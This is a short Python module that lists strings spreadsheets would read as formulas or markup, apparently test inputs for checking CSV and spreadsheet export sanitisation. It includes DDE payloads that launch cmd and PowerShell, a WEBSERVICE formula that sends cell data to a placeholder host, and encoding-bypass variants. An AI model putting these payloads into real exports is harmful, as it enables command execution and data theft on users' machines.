"""Texts that spreadsheets would take for formulas, or for markup of their own."""

PAYLOADS = (
    *("=1+1", "=1+1|cmd", "=cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(x)'!A0"),
    *("+1+1", "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0"),
    *("@SUM(1+1)*cmd|' /C calc'!A0", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1"),
    *("\0=1+1", '=HYPERLINK("http://example.org","x")', '=WEBSERVICE("http://x/"&A1)'),
    *('=IMPORTXML("http://x","//a")', '=IMPORTDATA("http://x")', "=DDE(1;2;3)"),
    *("=MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''", "=IMAGE(A1)", "=FILTERXML(A1,B1)"),
    *("\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", '";=1+1;"', '",=1+1,"'),
    *("'=1+1", "{=SUM(A1)}", "<r><t>x</t></r>", "</t></is></c><c><f>1+1</f></c>"),
    *("<r></r><f>1</f></r>", "_x003D_1+1"),
)
